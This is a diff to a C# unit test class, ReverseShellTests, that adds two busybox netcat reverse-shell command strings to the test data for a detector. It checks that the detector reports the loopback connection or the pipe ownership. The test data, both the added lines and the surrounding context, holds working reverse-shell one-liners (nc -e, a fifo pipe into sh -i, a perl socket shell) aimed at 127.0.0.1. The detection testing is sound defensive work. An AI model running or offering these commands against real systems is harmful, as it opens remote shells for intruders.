@@ -41,6 +41,8 @@ public sealed class ReverseShellTests(KernelSide kernel) : IDisposable
         "a connection with 127.0.0.1:PORT")]
     [InlineData("/bin/busybox nc 127.0.0.1 PORT -e /bin/sh", "a connection with 127.0.0.1:PORT")]
     [InlineData("/bin/busybox cat DIR/f | /bin/sh -i 2>&1 | /bin/busybox nc 127.0.0.1 PORT >DIR/f", "pipes held by /bin/busybox")]
+    [InlineData("/bin/busybox sh -c 'busybox nc 127.0.0.1 PORT -e sh'", "a connection with 127.0.0.1:PORT")]
+    [InlineData("/bin/busybox sh -c 'cat DIR/f | sh -i 2>&1 | nc 127.0.0.1 PORT >DIR/f'", "pipes held by nc")]
     [InlineData("/bin/sh -i <DIR/f 2>&1 | /bin/busybox nc 127.0.0.1 PORT >DIR/f", "pipes held by /bin/busybox")]
     [InlineData(
         "perl -MSocket -MIPC::Open2 -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(PORT, inet_aton(\"127.0.0.1\"))) or die; "
